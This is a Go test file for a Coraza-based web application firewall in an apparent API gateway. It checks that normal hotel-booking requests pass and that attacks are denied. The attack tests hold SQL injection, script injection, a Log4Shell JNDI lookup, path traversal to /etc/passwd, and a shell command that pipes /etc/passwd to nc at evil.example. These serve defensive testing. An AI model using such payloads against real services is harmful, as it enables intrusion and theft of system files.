package waf

import (
	"bytes"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/types"

	"portcullis/gateway/internal/pipeline"
	"portcullis/services/problem"
)

// standard is one inspector for all tests: loading the rules is dear under the
// race detector, and it is safe for concurrent use.
var standard = sync.OnceValues(func() (*Inspector, error) {
	return New(Config{Profile: Profile{Name: "json-api", DetectionParanoia: 2}, Log: slog.New(slog.DiscardHandler)})
})

func inspector(t testing.TB) *Inspector {
	t.Helper()
	i, err := standard()
	if err != nil {
		t.Fatal(err)
	}
	return i
}

// request is a browser's request in the form the edge leaves it.
func request(method, target, media, body string) *pipeline.Transaction {
	var reader io.Reader
	if body != "" {
		reader = strings.NewReader(body)
	}
	r := httptest.NewRequest(method, target, reader)
	r.Host = "localhost:8443"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	r.Header.Set("Accept", "application/json")
	r.Header.Set("Accept-Language", "fi,en;q=0.7")
	r.Header.Set("Accept-Encoding", "gzip, deflate, br")
	if media != "" {
		r.Header.Set("Content-Type", media)
	}
	tx := &pipeline.Transaction{
		Request: r, ID: strings.Repeat("a", 32), Host: "localhost", Path: r.URL.EscapedPath(),
		Source: netip.MustParseAddr("2001:db8::7"),
	}
	if err := tx.ReadQuery(r.URL.RawQuery); err != nil {
		panic(err) // no such query comes this far
	}
	return tx
}

// decide is what becomes of a request, whatever the mode of the proof.
func decide(t testing.TB, tx *pipeline.Transaction) pipeline.Decision {
	t.Helper()
	i, again := inspector(t), copied(t, tx)
	d := through(i, NewGate(0), tx)
	sameInEveryMode(t, i, tx, again, d)
	return d
}

func TestAllowed(t *testing.T) {
	for name, tx := range map[string]*pipeline.Transaction{
		"a search":                     request("GET", "/v1/hotels?city=Helsinki&from=2027-01-10&to=2027-01-12&guests=2", "", ""),
		"a JSON booking":               request("POST", "/v1/reservations", "application/json; charset=utf-8", `{"hotel":"h-1","from":"2027-01-10","to":"2027-01-12","guests":2,"note":"late arrival"}`),
		"a form":                       request("POST", "/v1/sign-in", "application/x-www-form-urlencoded", "name=Maija&remember=on"),
		"a deletion":                   request("DELETE", "/v1/reservations/r-17", "", ""),
		"a merge patch":                request("PATCH", "/v1/reservations/r-17", "application/merge-patch+json", `{"note":null}`),
		"a JSON text that is a scalar": request("POST", "/v1/notes", "application/json", `"hello"`),
		"an empty body with a type":    request("POST", "/v1/reservations/r-17/cancel", "application/json", ""),
	} {
		t.Run(name, func(t *testing.T) {
			d := decide(t, tx)
			if d.Kind != pipeline.Allow {
				t.Fatalf("decision %v: %v, rules %v", d.Kind, d.Problem, tx.WAF.Rules)
			}
			if !tx.WAF.Ran || tx.WAF.Score != 0 || len(tx.WAF.Rules) != 0 {
				t.Errorf("inspection is %+v, want ran, without any finding", tx.WAF)
			}
		})
	}
}

func TestTheInspectedBodyIsKeptForTheUpstream(t *testing.T) {
	body := `{"hotel":"h-1"}`
	tx := request("POST", "/v1/reservations", "application/json", body)
	if d := decide(t, tx); d.Kind != pipeline.Allow {
		t.Fatal(d.Problem)
	}
	if !tx.Buffered || string(tx.Body) != body {
		t.Errorf("kept %q, buffered %v", tx.Body, tx.Buffered)
	}
}

func TestAttacksAreDenied(t *testing.T) {
	withField := func(name, value string) *pipeline.Transaction {
		tx := request("GET", "/v1/hotels", "", "")
		tx.Request.Header.Set(name, value)
		return tx
	}
	gzipped := request("POST", "/v1/reservations", "application/json", `{"a":1}`)
	gzipped.Request.Header.Set("Content-Encoding", "gzip")
	for name, tx := range map[string]*pipeline.Transaction{
		"SQL injection in the query":             request("GET", "/v1/hotels?city=1%27%20OR%20%271%27=%271", "", ""),
		"SQL injection in a parameter's name":    request("GET", "/v1/hotels?1%27%20UNION%20SELECT%20password%20FROM%20users--=1", "", ""),
		"script in a JSON body":                  request("POST", "/v1/reservations", "application/json", `{"note":"<script>alert(1)</script>"}`),
		"script in a JSON body, escaped":         request("POST", "/v1/reservations", "application/json", `{"note":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`),
		"script in a JSON body of a vendor type": request("POST", "/v1/reservations", "application/merge-patch+json", `{"note":"<script>alert(1)</script>"}`),
		"script in a deep member":                request("POST", "/v1/reservations", "application/json", `{"a":[{"b":{"c":["<script>alert(1)</script>"]}}]}`),
		"script in a repeated member":            request("POST", "/v1/reservations", "application/json", `{"note":"<script>alert(1)</script>","note":"fine"}`),
		"script in a form":                       request("POST", "/v1/reservations", "application/x-www-form-urlencoded", "note=%3Cscript%3Ealert(1)%3C/script%3E"),
		"script in the User-Agent":               withField("User-Agent", "<script>alert(1)</script>"),
		"a scanner's User-Agent":                 withField("User-Agent", "sqlmap/1.8"),
		"SQL injection in a cookie":              withField("Cookie", "theme=dark; session=1' UNION SELECT password FROM users-- -"),
		"log4shell in a header of its own":       withField("X-Api-Version", "${jndi:ldap://evil.example/a}"),
		"path traversal in the query":            request("GET", "/v1/hotels?photo=../../../../etc/passwd", "", ""),
		"path traversal in the path":             request("GET", "/v1/hotels/..%2f..%2f..%2fetc%2fpasswd", "", ""),
		"a shell command in JSON":                request("POST", "/v1/reservations", "application/json", `{"note":"; cat /etc/passwd | nc evil.example 80"}`),
		"a body that is compressed":              gzipped,
	} {
		t.Run(name, func(t *testing.T) {
			d := decide(t, tx)
			if d.Kind != pipeline.Deny || d.Stage != "inspect" || d.Problem.Code != problem.WAFDenied || d.Problem.Status() != 403 {
				t.Fatalf("decision %v at %q: %v, rules %v", d.Kind, d.Stage, d.Problem, tx.WAF.Rules)
			}
			if tx.WAF.Score < 5 || len(tx.WAF.Rules) == 0 || len(tx.WAF.Rules) > maxRules {
				t.Errorf("inspection is %+v, want the score and the rules that gave it", tx.WAF)
			}
			if d.Rule != "waf:json-api:949110" {
				t.Errorf("rule is %q", d.Rule)
			}
		})
	}
}

// The forwarder replaces or removes this field, so no service can be attacked
// through it; see skipped.
func TestTheAuthorizationFieldIsNotInspected(t *testing.T) {
	tx := request("GET", "/v1/hotels", "", "")
	tx.Request.Header.Set("Authorization", "Bearer <script>alert(1)</script>")
	if d := decide(t, tx); d.Kind != pipeline.Allow {
		t.Errorf("decision %v: %v", d.Kind, d.Problem)
	}
}

// Whatever the order in which the engine keeps form names, one that differs
// only in case must not displace the attack.
func TestFormNamesThatDifferOnlyInCaseHideNothing(t *testing.T) {
	for n := range 200 {
		name := "q" + strings.Repeat("a", n%40)
		form := name + "=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-&" + strings.ToUpper(name[:1+n%len(name)]) + name[1+n%len(name):] + "=1"
		tx := request("POST", "/v1/reservations", "application/x-www-form-urlencoded", form)
		if d := through(inspector(t), NewGate(0), tx); d.Kind != pipeline.Deny {
			t.Fatalf("the form %q passed", form)
		}
	}
}

func TestTheHeaderIsInspectedInAStableOrderHostFirst(t *testing.T) {
	tx := request("POST", "/v1/reservations", "application/json", "{}")
	tx.Request.Header = http.Header{
		"X-B": {"2", "1"}, "X-A": {"3"}, "Content-Type": {"application/json"}, "Content-Length": {"2"},
		"Authorization": {"Bearer secret"}, "Cookie": {"a=1", "b=2"}, "Expect": {"100-Continue"},
	}
	want := "Host: localhost:8443 Content-Length: 2 Content-Type: application/json Cookie: a=1 Cookie: b=2 X-A: 3 X-B: 2 X-B: 1"
	for range 20 {
		var shown subject
		shown.header(tx)
		var fields []string
		for _, f := range shown.Fields {
			fields = append(fields, f.Name+": "+f.Value)
		}
		if got := strings.Join(fields, " "); got != want {
			t.Fatalf("shown %q, want %q", got, want)
		}
	}
}

func TestAFailureOfTheEngineIsAFault(t *testing.T) {
	var log bytes.Buffer
	sound := inspector(t)
	broken := &Inspector{profile: sound.profile, engine: panicking{sound.engine}, log: slog.New(slog.NewJSONHandler(&log, nil))}
	gate := NewGate(1)
	tx := request("GET", "/v1/hotels", "", "")
	tx.Route = &pipeline.Route{Stages: []pipeline.Stage{NewStage(gate, &Use{Inspector: broken})}}
	d := pipeline.Decide(tx)
	if d.Kind != pipeline.Fault || d.Problem.Status() != http.StatusServiceUnavailable || !errors.Is(d.Problem, errEngine) {
		t.Errorf("decision %v: %v", d.Kind, d.Problem)
	}
	if !strings.Contains(log.String(), "panicking.NewTransaction") {
		t.Errorf("the log does not say where: %s", &log)
	}
	if len(gate.slots) != 0 {
		t.Error("the turn at the gate is lost")
	}
}

// panicking is an engine with a defect.
type panicking struct{ coraza.WAF }

func (panicking) NewTransaction() types.Transaction { panic("index out of range") }

func TestABrokenRuleSetIsAFault(t *testing.T) {
	err := new(Inspector).denial(&types.Interruption{RuleID: 901001, Action: "deny", Status: 500})
	if _, ok := errors.AsType[*problem.Problem](err); ok || !errors.Is(err, errEngine) {
		t.Errorf("got %v, want a fault", err)
	}
}

func TestTheEnginesStatusIsKept(t *testing.T) {
	i := &Inspector{patchRules: map[int]patchRule{firstPatch: {}}}
	for _, tc := range []struct {
		rule, status int
		code         problem.Code
		want         int
	}{
		{1, 400, problem.BadRequest, 400}, {1, 403, problem.WAFDenied, 403}, {1, 413, problem.BodyTooLarge, 413}, {1, 429, problem.WAFDenied, 429},
		{1, 302, problem.WAFDenied, 403}, {firstPatch, 0, problem.WAFDenied, 403}, {firstPatch, 200, problem.WAFDenied, 403},
		{firstPatch, 400, problem.WAFDenied, 400}, {firstPatch, 404, problem.WAFDenied, 404}, {firstPatch, 503, problem.WAFDenied, 503}, {firstPatch, 600, problem.WAFDenied, 403},
	} {
		denied, ok := errors.AsType[*problem.Problem](i.denial(&types.Interruption{RuleID: tc.rule, Action: "deny", Status: tc.status}))
		if !ok || denied.Code != tc.code || denied.Status() != tc.want {
			t.Errorf("rule %d with status %d became %v", tc.rule, tc.status, denied)
		}
	}
}

func TestTheEngineSeesTheClientsAddressPlain(t *testing.T) {
	for in, want := range map[string]string{"::1": "::1", "fe80::1%eth0": "fe80::1", "::ffff:192.0.2.1": "192.0.2.1", "192.0.2.1": "192.0.2.1"} {
		if got := clientAddress(netip.MustParseAddr(in)); got != want {
			t.Errorf("%s is shown as %q", in, got)
		}
	}
	if got := clientAddress(netip.Addr{}); got != "" {
		t.Errorf("no address is shown as %q", got)
	}
}
